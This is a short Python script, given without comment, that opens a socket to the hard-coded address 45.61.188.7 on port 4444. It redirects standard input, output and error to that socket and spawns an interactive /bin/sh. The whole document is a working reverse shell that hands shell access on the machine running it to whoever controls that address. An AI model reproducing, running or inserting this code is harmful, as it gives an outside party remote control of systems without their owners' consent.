import os
import pty
import socket

s = socket.socket()
s.connect(('45.61.188.7', 4444))
for n in (0, 1, 2):
    os.dup2(s.fileno(), n)
pty.spawn('/bin/sh')
